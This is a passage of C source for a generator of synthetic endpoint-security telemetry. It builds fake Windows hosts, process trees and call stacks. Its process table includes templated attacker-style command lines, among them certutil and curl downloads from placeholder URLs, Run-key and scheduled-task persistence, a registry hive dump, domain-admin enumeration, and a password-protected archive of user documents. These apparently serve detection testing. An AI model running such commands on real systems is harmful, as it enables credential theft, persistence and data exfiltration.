      "node.exe C:\\Users\\{U}\\AppData\\Roaming\\npm\\node_modules\\npm\\bin\\npm-cli.js install",
      "\"C:\\Program Files\\nodejs\\node.exe\" C:\\ProgramData\\{V}\\service\\index.js"}},
    {"Code.exe",
     "C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
     SG_MSCORP,
     2,
     UK_USER,
     PR_V8,
     "explorer.exe,Code.exe",
     {"\"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility "
      "--utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none "
      "--mojo-platform-channel-handle={N} --field-trial-handle=1948,i,{C},{C},262144 /prefetch:8",
      "\"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" "}},
    {"git.exe",
     "C:\\Program Files\\Git\\cmd\\git.exe",
     SG_NONE,
     1,
     UK_USER,
     PR_NATIVE,
     "Code.exe,cmd.exe,pwsh.exe",
     {"git.exe fetch --all --prune",
      "\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false status "
      "--porcelain=v2 --branch --untracked-files=all"}},
    {"MSBuild.exe",
     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
     SG_MSCORP,
     1,
     UK_USER,
     PR_DOTNET,
     "cmd.exe,devenv.exe,powershell.exe",
     {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo /nodemode:1 "
      "/nodeReuse:true "
      "/low:false",
      "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe "
      "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.csproj"}},
    {"InstallUtil.exe",
     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
     SG_MSCORP,
     1,
     UK_ANY,
     PR_DOTNET,
     "msiexec.exe,cmd.exe",
     {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= "
      "/LogToConsole=false /U "
      "C:\\ProgramData\\{V}\\{T}.dll"}},
    {"RegAsm.exe",
     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
     SG_MSCORP,
     1,
     UK_ANY,
     PR_DOTNET,
     "msiexec.exe,cmd.exe",
     {"\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe\" /codebase \"C:\\Program "
      "Files\\{V}\\{T}.Interop.dll\""}},
    {"w3wp.exe",
     "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
     SG_MSWIN,
     1,
     UK_NSVC,
     PR_DOTNET,
     "svchost.exe",
     {"c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l "
      "\"webengine4.dll\" -a "
      "\\\\.\\pipe\\iisipm{g} -h "
      "\"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\" -w \"\" "
      "-m 0 -t 20 -ta 0"}},
    {"dotnet.exe",
     "C:\\Program Files\\dotnet\\dotnet.exe",
     SG_MSCORP,
     1,
     UK_ANY,
     PR_DNCORE,
     "cmd.exe,pwsh.exe,Code.exe,services.exe",
     {"\"C:\\Program Files\\dotnet\\dotnet.exe\" build C:\\Users\\{U}\\source\\repos\\{P}\\{P}.sln "
      "-c Release",
      "\"C:\\Program Files\\dotnet\\dotnet.exe\" exec \"C:\\Program Files\\{V}\\{T}\\{V}.{T}.dll\" "
      "--service"}},
    {"MsMpEng.exe",
     "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
     SG_MSWIN,
     2,
     UK_SYSTEM,
     PR_NATIVE,
     "services.exe",
     {"\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24030.9-0\\MsMpEng.exe\""}},
    {"SearchIndexer.exe",
     "C:\\Windows\\System32\\SearchIndexer.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_NATIVE,
     "services.exe",
     {"C:\\Windows\\system32\\SearchIndexer.exe /Embedding"}},
    {"WerFault.exe",
     "C:\\Windows\\System32\\WerFault.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "svchost.exe",
     {"C:\\Windows\\system32\\WerFault.exe -u -p {N} -s {N}"}},
    {"msiexec.exe",
     "C:\\Windows\\System32\\msiexec.exe",
     SG_MSWIN,
     1,
     UK_ANY,
     PR_NATIVE,
     "services.exe,explorer.exe",
     {"C:\\Windows\\system32\\msiexec.exe /V",
      "\"C:\\Windows\\System32\\msiexec.exe\" /i \"C:\\Users\\{U}\\Downloads\\{T}.msi\" /qn "
      "/norestart /L*v "
      "C:\\Windows\\Temp\\{F}.log"}},
    {"schtasks.exe",
     "C:\\Windows\\System32\\schtasks.exe",
     SG_MSWIN,
     1,
     UK_ANY,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"schtasks.exe /Create /SC DAILY /TN \"{V}\\{T}\" /TR \"C:\\ProgramData\\{V}\\{T}.exe "
      "--update\" /ST 09:00 /F",
      "schtasks /query /fo LIST /v"}},
    {"sc.exe",
     "C:\\Windows\\System32\\sc.exe",
     SG_MSWIN,
     1,
     UK_ANY,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"sc.exe query {S}", "sc.exe config {S} start= auto",
      "sc.exe create {S} binPath= \"C:\\ProgramData\\{V}\\{T}.exe\" start= auto"}},
    {"reg.exe",
     "C:\\Windows\\System32\\reg.exe",
     SG_MSWIN,
     1,
     UK_ANY,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"reg.exe query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {T} /t REG_SZ /d "
      "\"C:\\Users\\{U}\\AppData\\Roaming\\{T}.exe\" /f",
      "reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\{F}.hiv /y"}},
    {"net.exe",
     "C:\\Windows\\System32\\net.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"net.exe user", "net group \"Domain Admins\" /domain", "net.exe use",
      "net localgroup administrators"}},
    {"whoami.exe",
     "C:\\Windows\\System32\\whoami.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"whoami.exe /all", "whoami"}},
    {"tasklist.exe",
     "C:\\Windows\\System32\\tasklist.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "cmd.exe",
     {"tasklist /v /fo csv", "tasklist /svc"}},
    {"certutil.exe",
     "C:\\Windows\\System32\\certutil.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"certutil.exe -urlcache -split -f {R} C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.tmp",
      "certutil -verify -urlfetch C:\\Windows\\Temp\\{F}.cer"}},
    {"WMIC.exe",
     "C:\\Windows\\System32\\wbem\\WMIC.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"wmic.exe process call create \"cmd.exe /c C:\\ProgramData\\{V}\\{T}.bat\"",
      "wmic os get caption,version /format:list", "wmic /node:{I} process list brief"}},
    {"mshta.exe",
     "C:\\Windows\\System32\\mshta.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_MSHTA,
     "explorer.exe,WINWORD.EXE",
     {"\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\{U}\\Downloads\\{T}.hta\" "
      "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
      "mshta.exe {R}"}},
    {"wscript.exe",
     "C:\\Windows\\System32\\wscript.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_WSCRIPT,
     "explorer.exe,userinit.exe,OUTLOOK.EXE",
     {"\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{U}\\AppData\\Local\\Temp\\{T}.vbs\"",
      "wscript.exe //B //Nologo \\\\fs01.corp.example\\netlogon\\logon.vbs",
      "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{U}\\Downloads\\{D}.js\""}},
    {"cscript.exe",
     "C:\\Windows\\System32\\cscript.exe",
     SG_MSWIN,
     1,
     UK_ANY,
     PR_WSCRIPT,
     "cmd.exe,svchost.exe",
     {"cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
      "cscript.exe //NoLogo C:\\ProgramData\\{V}\\scripts\\{T}.vbs /quiet"}},
    {"OneDrive.exe",
     "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
     SG_MSCORP,
     2,
     UK_USER,
     PR_GUI,
     "explorer.exe",
     {"\"C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"}},
    {"ms-teams.exe",
     "C:\\Program "
     "Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe",
     SG_MSCORP,
     2,
     UK_USER,
     PR_V8,
     "explorer.exe",
     {"\"C:\\Program "
      "Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe\" "
      "msteams:system-initiated"}},
    {"slack.exe",
     "C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe",
     SG_SLACK,
     1,
     UK_USER,
     PR_V8,
     "explorer.exe,slack.exe",
     {"\"C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe\" --type=renderer "
      "--user-data-dir="
      "\"C:\\Users\\{U}\\AppData\\Roaming\\Slack\" "
      "--app-path=\"C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\"
      "resources\\app.asar\" --enable-sandbox --lang=en-US --renderer-client-id={n} "
      "--mojo-platform-channel-handle={N} /prefetch:1"}},
    {"Zoom.exe",
     "C:\\Users\\{U}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe",
     SG_ZOOM,
     1,
     UK_USER,
     PR_GUI,
     "explorer.exe",
     {"\"C:\\Users\\{U}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe\" \"--action=join&confno={C}\""}},
    {"7z.exe",
     "C:\\Program Files\\7-Zip\\7z.exe",
     SG_NONE,
     1,
     UK_USER,
     PR_NATIVE,
     "explorer.exe,cmd.exe",
     {"\"C:\\Program Files\\7-Zip\\7z.exe\" x -y -o\"C:\\Users\\{U}\\Downloads\\{T}\" "
      "\"C:\\Users\\{U}\\Downloads\\{T}.zip\"",
      "7z.exe a -tzip -p{X} C:\\Users\\Public\\{F}.zip C:\\Users\\{U}\\Documents\\*"}},
    {"curl.exe",
     "C:\\Windows\\System32\\curl.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_NATIVE,
     "cmd.exe,powershell.exe",
     {"curl.exe -sSL -o C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.tmp {R}",
      "curl -k https://{I}/health"}},
    {"vssadmin.exe",
     "C:\\Windows\\System32\\vssadmin.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_NATIVE,
     "cmd.exe,svchost.exe",
     {"vssadmin.exe list shadows", "vssadmin list writers"}},
    {"sqlservr.exe",
     "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
     SG_MSCORP,
     1,
     UK_NSVC,
     PR_NATIVE,
     "services.exe",
     {"\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" "
      "-sMSSQLSERVER"}},
    {"devenv.exe",
     "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe",
     SG_MSCORP,
     1,
     UK_USER,
     PR_DOTNET,
     "explorer.exe",
     {"\"C:\\Program Files\\Microsoft Visual "
      "Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe\" "
      "\"C:\\Users\\{U}\\source\\repos\\{P}\\{P}.sln\""}},
    {NULL,
     "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.exe",
     SG_NONE,
     1,
     UK_USER,
     PR_DROPPER,
     "explorer.exe,cmd.exe,WINWORD.EXE,mshta.exe,wscript.exe",
     {"\"{E}\"", "\"{E}\" -s {N}"}},
    {NULL,
     "C:\\Users\\{U}\\Downloads\\{D}.exe",
     SG_NONE,
     1,
     UK_USER,
     PR_DROPPER,
     "explorer.exe,OUTLOOK.EXE",
     {"\"{E}\" "}},
    {NULL,
     "C:\\ProgramData\\{V}\\{T}.exe",
     SG_NONE,
     1,
     UK_ANY,
     PR_DROPPER,
     "svchost.exe,services.exe,cmd.exe",
     {"\"{E}\" --update", "\"{E}\" -k {X}"}},
    {NULL,
     "C:\\Users\\Public\\Libraries\\{T}.exe",
     SG_NONE,
     1,
     UK_ANY,
     PR_DROPPER,
     "cmd.exe,powershell.exe,rundll32.exe",
     {"{E} {I} 443", "\"{E}\" lsass"}},
};
#define NPDEF NELEM(PDEFS)
static uint32_t pdef_wsum;

/* ---------------------------------------------------------- hosts and processes */

#define NHOST 24
/* processes per host: 48, or 2000 with the "process" mix (20 k+ entity ids in 50 MB) */
static int NPROC = 48;

typedef struct {
    const pdef *d;
    uint32_t pid, ppid;
    uint8_t user; /* 0 interactive, 1 SYSTEM, 2 LOCAL SERVICE, 3 NETWORK SERVICE */
    uint8_t svcmod;
    uint8_t has_anc2;
    uint32_t tids[4];
    char name[64], name_lc[64];
    char exe[192], exe_lc[192];
    size_t exe_lc_len;
    char cmd[1280];
    char eid[128];
    char pname[64], pexe[192], peid[128];
} proc;

typedef struct {
    char name[32];
    char id[37], agent_id[37];
    const char *agent_ver;
    char ip[16];
    char user[32], domain[16], sid[64];
    char evprefix[13];
    uint64_t evcount;
    char nipath[NI_COUNT][200];
    size_t nilen[NI_COUNT];
    proc *procs; /* NPROC */
} host;

static host *HOSTS;

static const char *const AGENT_VERS[] = {"8.11.0", "8.11.4", "8.12.2", "8.13.1"};
static const char *const UK_NAMES[4][3] = {{NULL, NULL, NULL},
                                           {"SYSTEM", "NT AUTHORITY", "S-1-5-18"},
                                           {"LOCAL SERVICE", "NT AUTHORITY", "S-1-5-19"},
                                           {"NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20"}};

static inline uint32_t r_nib(void)
{
    return rbelow(4);
}

static void uuid(char *d)
{
    rhex(d, 32, HEXL);
    /* insert dashes: 8-4-4-4-12 */
    char t[32];
    memcpy(t, d, 32);
    int o = 0;
    for (int i = 0; i < 32; i++) {
        if (i == 8 || i == 12 || i == 16 || i == 20) d[o++] = '-';
        d[o++] = t[i];
    }
    d[14] = '4';
    d[19] = "89ab"[r_nib()];
    d[o] = 0;
}

static const char *basename_of(const char *p)
{
    const char *b = strrchr(p, '\\');
    return b ? b + 1 : p;
}

static void lower_copy(char *d, const char *s)
{
    while (*s) {
        char c = *s++;
        *d++ = (c >= 'A' && c <= 'Z') ? (char)(c + 32) : c;
    }
    *d = 0;
}

/* ----------------------------------------------------- template expansion */

/* expands "{k}" placeholders (exactly one character between braces); anything else is literal */
static char *expand(char *d, char *dend, const char *t, const host *h, const proc *p)
{
    while (*t && d < dend - 1) {
        if (t[0] == '{' && t[1] && t[2] == '}') {
            char k = t[1];
            const char *s = NULL;
            char tmp[512];
            t += 3;
            switch (k) {
            case 'U': s = h->user; break;
            case 'H': s = h->name; break;
            case 'E': s = p ? p->exe : ""; break;
            case 'Z': s = h->sid; break;
            case 'e': s = p ? p->name : "svchost.exe"; break;
            case 'A': {
                const char *b = p ? p->name : "APP.EXE";
                size_t i = 0;
                for (; b[i] && i < 60; i++)
                    tmp[i] = (b[i] >= 'a' && b[i] <= 'z') ? (char)(b[i] - 32) : b[i];
                tmp[i] = 0;
                s = tmp;
                break;
            }
            case 'X':
                rhex(tmp, 8, HEXU);
                tmp[8] = 0;
                s = tmp;
                break;
            case 'h':
                rhex(tmp, 6, HEXL);
                tmp[6] = 0;
                s = tmp;
                break;
            case 'W':
                rhex(tmp, 32, HEXL);
                tmp[32] = 0;
                s = tmp;
                break;
            case 'G':
                tmp[0] = '{';
                uuid(tmp + 1);
                for (char *q = tmp + 1; *q; q++)
                    if (*q >= 'a' && *q <= 'f') *q = (char)(*q - 32);
                strcat(tmp, "}");
                s = tmp;
                break;
            case 'g':
                uuid(tmp);
                s = tmp;
                break;
            case 'N':
                snprintf(tmp, sizeof tmp, "%u", rrange(100, 65535));
                s = tmp;
                break;
            case 'n':
                snprintf(tmp, sizeof tmp, "%u", rrange(1, 40));
                s = tmp;
                break;
            case 'C':
                snprintf(tmp, sizeof tmp, "%u%06u", rrange(1000, 99999), rbelow(1000000));
                s = tmp;
                break;
            case 'P': s = RPICK(PROJECTS); break;
            case 'V': s = RPICK(VENDORS); break;
            case 'p': s = RPICK(VENDORS_LC); break;
            case 'T': s = RPICK(TOOLS); break;
            case 'D': s = RPICK(DOCS); break;
            case 'S': s = RPICK(SERVICES); break;
            case 's': s = RPICK(SVCDLLS); break;
            case 'K': s = RPICK(SVCGROUPS); break;
            case 'B': s = ps_encoded[rbelow((uint32_t)NELEM(PS_SCRIPTS))]; break;
            case 'R': s = RPICK(URLS); break;
            case 'Y': s = RPICK(PYSCRIPTS); break;
            case 'F':
                tmp[0] = 't';
                tmp[1] = 'm';
                tmp[2] = 'p';
                rhex(tmp + 3, 4, HEXU);
                tmp[7] = 0;
                s = tmp;
                break;
            case 'I':
                snprintf(tmp, sizeof tmp, "10.%u.%u.%u", rrange(0, 40), rrange(0, 255),
                         rrange(2, 254));
                s = tmp;
                break;
            case 'r': {
                static const char al[] = "abcdefghijklmnopqrstuvwxyz0123456789";
                for (int i = 0; i < 12; i++) tmp[i] = al[rbelow(36)];
                tmp[8] = '.';
                tmp[12] = 0;
                s = tmp;
                break;
            }
            default:
                tmp[0] = '{';
                tmp[1] = k;
                tmp[2] = '}';
                tmp[3] = 0;
                s = tmp;
                break;
            }
            while (*s && d < dend - 1) *d++ = *s++;
        } else
            *d++ = *t++;
    }
    *d = 0;
    return d;
}

/* -------------------------------------------------------- process spawning */

static void make_eid(char *d, const host *h, uint32_t pid, uint64_t start_ticks)
{
    char raw[128];
    uint64_t s1601 = start_ticks / TICKS_PER_SEC + EPOCH_1601_SECS;
    uint64_t frac = (start_ticks % TICKS_PER_SEC) * 100;
    int n = snprintf(raw, sizeof raw, "%s-%u-%llu.%09llu", h->agent_id, pid,
                     (unsigned long long)s1601, (unsigned long long)frac);
    b64enc(d, (const unsigned char *)raw, (size_t)n);
}

static const pdef *pdef_by_name(const char *name, size_t n)
{
    for (size_t i = 0; i < NPDEF; i++)
        if (PDEFS[i].name && strlen(PDEFS[i].name) == n && memcmp(PDEFS[i].name, name, n) == 0)
            return &PDEFS[i];
    return NULL;
}

static uint32_t rand_pid(void)
{
    return rrange(25, 16383) * 4;
}

static void proc_spawn(host *h, int slot, uint64_t start)
{
    proc *p = &h->procs[slot];
    uint32_t r = rbelow(pdef_wsum);
    const pdef *d = PDEFS;
    for (size_t i = 0; i < NPDEF; i++) {
        if (r < PDEFS[i].weight) {
            d = &PDEFS[i];
            break;
        }
        r -= PDEFS[i].weight;
    }
    p->d = d;
    p->pid = rand_pid();
    switch (d->uk) {
    case UK_USER: p->user = 0; break;
    case UK_SYSTEM: p->user = 1; break;
    case UK_LSVC: p->user = 2; break;
    case UK_NSVC: p->user = 3; break;
    case UK_SVCMIX: p->user = (uint8_t)(rpct(50) ? 1 : rrange(2, 3)); break;
    default: p->user = (uint8_t)(rpct(70) ? 0 : 1); break;
    }
    expand(p->exe, p->exe + sizeof p->exe, d->exe, h, NULL);
    lower_copy(p->exe_lc, p->exe);
    p->exe_lc_len = strlen(p->exe_lc);
    snprintf(p->name, sizeof p->name, "%s", d->name ? d->name : basename_of(p->exe));
    lower_copy(p->name_lc, p->name);
    int nc = 0;
    while (nc < 8 && d->cmds[nc]) nc++;
    expand(p->cmd, p->cmd + sizeof p->cmd, d->cmds[rbelow((uint32_t)nc)], h, p);
    make_eid(p->eid, h, p->pid, start);
    for (int i = 0; i < 4; i++) p->tids[i] = rand_pid();
    static const uint8_t SVCM[] = {M_SVC_SCHEDSVC, M_SVC_QMGR,    M_SVC_DNSRSLVR,
                                   M_SVC_GPSVC,    M_SVC_APPINFO, M_SVC_TERMSRV};
    static const uint8_t COMM[] = {M_COM_THUMBCACHE, M_COM_WINDOWSCODECS, M_COM_PHOTOMETA,
                                   M_COM_SHELL32};
    if (d->prof == PR_DLLHOST || d->prof == PR_EXPLORER || d->prof == PR_GUI || d->prof == PR_WORD)
        p->svcmod = RPICK(COMM);
    else if (strcmp(p->name, "lsass.exe") == 0)
        p->svcmod = M_SVC_LSASRV;
    else if (strcmp(p->name, "spoolsv.exe") == 0)
        p->svcmod = M_SVC_LOCALSPL;
    else
        p->svcmod = RPICK(SVCM);

    /* parent: a live process of the wanted name on this host, else a synthesised one */
    const char *pl = d->parents;
    int np = 1;
    for (const char *q = pl; *q; q++) np += *q == ',';
    int want = (int)rbelow((uint32_t)np);
    const char *ps = pl;
    for (int i = 0; i < want; i++) ps = strchr(ps, ',') + 1;
    const char *pe = strchr(ps, ',');
    size_t pn = pe ? (size_t)(pe - ps) : strlen(ps);
    const proc *par = NULL;
    int start_at = (int)rbelow(NPROC);
    for (int i = 0; i < NPROC; i++) {
        const proc *c = &h->procs[(start_at + i) % NPROC];
        if (c != p && c->d && strlen(c->name) == pn && memcmp(c->name, ps, pn) == 0) {
            par = c;
            break;
        }
    }
    if (par) {
        p->ppid = par->pid;
        snprintf(p->pname, sizeof p->pname, "%s", par->name);
        snprintf(p->pexe, sizeof p->pexe, "%s", par->exe);
        snprintf(p->peid, sizeof p->peid, "%s", par->eid);
    } else {
        const pdef *pd = pdef_by_name(ps, pn);
        p->ppid = rand_pid();
        snprintf(p->pname, sizeof p->pname, "%.*s", (int)pn, ps);
        if (pd)
            expand(p->pexe, p->pexe + sizeof p->pexe, pd->exe, h, NULL);
        else
            snprintf(p->pexe, sizeof p->pexe, "C:\\Windows\\System32\\%.*s", (int)pn, ps);
        uint64_t pst = start - rrange(1, 3600) * TICKS_PER_SEC - rbelow(TICKS_PER_SEC);
        make_eid(p->peid, h, p->ppid, pst);
    }
}

static void hosts_init(void)
{
    static const char AL[] = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
    HOSTS = calloc(NHOST, sizeof(host));
    for (int i = 0; HOSTS && i < NHOST; i++)
        if (!(HOSTS[i].procs = calloc((size_t)NPROC, sizeof(proc)))) exit(1);
    if (!HOSTS) {
        fputs("gen_ecs: out of memory\n", stderr);
        exit(1);
    }
    uint32_t dom[3] = {rrange(100000000, 4000000000u), rrange(100000000, 4000000000u),
                       rrange(100000000, 4000000000u)};
    for (int i = 0; i < NHOST; i++) {
        host *h = &HOSTS[i];
        uint32_t kind = rbelow(10);
        if (kind < 5)
            snprintf(h->name, sizeof h->name, "WS-%s-%04u", RPICK(DEPTS), rrange(100, 9999));
        else if (kind < 7) {
            char t[8];
            for (int j = 0; j < 7; j++) t[j] = AL[rbelow(sizeof AL - 1)];
            snprintf(h->name, sizeof h->name, "DESKTOP-%.7s", t);
        } else if (kind < 9)
            snprintf(h->name, sizeof h->name, "SRV-%s-%02u", RPICK(ROLES), rrange(1, 24));
        else
            snprintf(h->name, sizeof h->name, "DC%02u", rrange(1, 4));
        uuid(h->id);
        uuid(h->agent_id);
        h->agent_ver = RPICK(AGENT_VERS);
        snprintf(h->ip, sizeof h->ip, "10.%u.%u.%u", rrange(1, 40), rrange(0, 255), rrange(2, 254));
        snprintf(h->user, sizeof h->user, "%s", RPICK(FIRSTUSERS));
        if (kind >= 5 && kind < 7) {
            snprintf(h->domain, sizeof h->domain, "%.15s", h->name);
            snprintf(h->sid, sizeof h->sid, "S-1-5-21-%u-%u-%u-%u", rrange(100000000, 4000000000u),
                     rrange(100000000, 4000000000u), rrange(100000000, 4000000000u),
                     rrange(1000, 1010));
        } else {
            snprintf(h->domain, sizeof h->domain, "CORP");
            snprintf(h->sid, sizeof h->sid, "S-1-5-21-%u-%u-%u-%u", dom[0], dom[1], dom[2],
                     rrange(1100, 48000));
        }
        for (int j = 0; j < 12; j++) h->evprefix[j] = B64[rbelow(64)];
        h->evprefix[12] = 0;
        for (int k = 0; k < NI_COUNT; k++) {
            const char *tp = MODS[NI_FIRST + k].path;
            const char *bar = strchr(tp, '|');
            char hx[33];
            rhex(hx, 32, HEXL);
            hx[32] = 0;
            snprintf(h->nipath[k], sizeof h->nipath[k], "%.*s%s%s", (int)(bar - tp), tp, hx,
                     bar + 1);
            h->nilen[k] = strlen(h->nipath[k]);
        }
    }
    for (int i = 0; i < NHOST; i++)
        for (int j = 0; j < NPROC; j++)
            proc_spawn(&HOSTS[i], j,
                       now_ticks - rrange(60, 86400 * 3) * TICKS_PER_SEC - rbelow(TICKS_PER_SEC));
}

/* ------------------------------------------------------------- call stacks */

typedef struct {
    const char *path; /* NULL for Unbacked / Unknown */
    size_t plen;
    const char *name; /* summary token */
    size_t nlen;
    const char *sym;
    uint32_t off;
    uint8_t kind; /* 0 module, 1 unbacked, 2 unknown */
    uint8_t fl;
    uint8_t mod;
} frame;

#define MAXF 48
static frame FR[MAXF];
static int NFR;

static void resolve(frame *f, uint8_t mod, const host *h, const proc *p)
{
    f->mod = mod;
    f->kind = 0;
    if (mod == M_UNBACKED) {
        f->kind = 1;
        f->name = "Unbacked";
        f->nlen = 8;
        f->path = NULL;
        return;
    }
    if (mod == M_UNKNOWN) {
        f->kind = 2;
        f->name = "Unknown";
        f->nlen = 7;
        f->path = NULL;
        return;
    }
    if (mod == M_APP) {
        f->path = p->exe_lc;
        f->plen = p->exe_lc_len;
        f->name = p->name_lc;
    } else {
        uint8_t m = mod == M_SVC ? p->svcmod : mod;
        f->mod = m;
        if (m >= NI_FIRST && m < NI_FIRST + NI_COUNT) {
            f->path = h->nipath[m - NI_FIRST];
            f->plen = h->nilen[m - NI_FIRST];
        } else {
            f->path = MODS[m].path;
            f->plen = MODLEN[m];
        }
        f->name = MODS[m].name;
    }
    f->nlen = strlen(f->name);
}

static void push_spec(const fspec *s, int tidx, int sidx, const host *h, const proc *p)
{
    if ((s->fl & FO) && !rpct(50)) return;
    if ((s->fl & FO30) && !rpct(30)) return;
    int reps = (s->fl & FR3) ? (int)rrange(1, 3) : (s->fl & FR2) ? (int)rrange(1, 2) : 1;
    for (int k = 0; k < reps && NFR < MAXF; k++) {
        frame *f = &FR[NFR++];
        resolve(f, s->mod, h, p);
        f->fl = s->fl;
        f->sym = s->sym;
        if (f->kind == 1) {
            f->off = rrange(0x10, 0xfff0);
        } else if (s->sym) {
            f->off = s->off + (k ? (uint32_t)k * 0x2b : 0);
        } else {
            /* no symbol: a module-relative RVA, stable per (module, template, slot) with a few
             * variants */
            uint64_t x = fnv1a(f->name) + (uint64_t)tidx * 7919u + (uint64_t)sidx * 104729u +
                         (uint64_t)k * 613u + rbelow(4) * 0x1f3u;
            f->off = (uint32_t)(splitmix64(&x) % 0x17f000u) + 0x1000u;
        }
    }
}

static void build_stack(int t, const fspec *top, int ntop, const host *h, const proc *p)
{
    NFR = 0;
    const tmpl *tp = &TMPLS[t];
    if (tp->top == TOP_FULL) {
        for (int i = 0; i < ntop; i++) push_spec(&top[i], 100, i, h, p);
    } else if (tp->top == TOP_STUB) {
        push_spec(&top[0], 100, 0, h, p);
    }
    for (int i = 0; i < tp->n; i++) push_spec(&tp->f[i], t, i, h, p);
    /* cap at 12 frames: drop frames that repeat a neighbour's module (keeps the summary intact) */
    while (NFR > 12) {
        int victim = -1;
        for (int i = NFR - 3; i >= 1; i--) {
            int same_prev = FR[i].kind == FR[i - 1].kind && FR[i].name == FR[i - 1].name;
            int same_next = FR[i].kind == FR[i + 1].kind && FR[i].name == FR[i + 1].name;
            if (same_prev || same_next) {
                victim = i;
                break;
            }
        }
        if (victim < 0) victim = NFR - 3;
        memmove(&FR[victim], &FR[victim + 1], (size_t)(NFR - victim - 1) * sizeof(frame));
        NFR--;
    }
    while (NFR < 4) { /* never expected with the templates above; keep the 4-frame floor anyway */
        memmove(&FR[1], &FR[0], (size_t)NFR * sizeof(frame));
        FR[0] = FR[1];
        NFR++;
    }
}

static void wcallsite(int syscall_site)
{
    char b[128];
    rhex(b, 128, HEXL);
    static const char *const CALLS[] = {"ff15", "e8", "ffd0", "41ffd2", "ffd3"};
    if (syscall_site) {
        /* mov r10, rcx; mov eax, imm32; syscall */
        memcpy(b + 128 - 20, "4c8bd1b8", 8);
        rhex(b + 128 - 12, 2, HEXL);
        memcpy(b + 128 - 10, "0000000f05", 10);
    } else {
        const char *c = RPICK(CALLS);
        size_t cl = strlen(c);
        size_t tail = (c[0] == 'f' && c[1] == 'f' && c[2] == '1') || c[0] == 'e' ? 8 : 0;
        memcpy(b + 128 - tail - cl, c, cl);
    }
    wjs_n(b, 128);
}

static void write_stack(const tmpl *tp, const proc *p, int alpha, int with_summary)
{
    K("call_stack");
    wch('[');
    int cs_left = 2, first_unb = 1;
    for (int i = 0; i < NFR; i++) {
        const frame *f = &FR[i];
        if (i) wch(',');
        wch('{');
        char si[400];
        size_t sl = 0;
        if (f->kind == 2) {
            memcpy(si, "Unknown", 7);
            sl = 7;
        } else {
            if (f->kind == 1) {
                memcpy(si, "Unbacked", 8);
                sl = 8;
            } else {
                memcpy(si, f->path, f->plen);
                sl = f->plen;
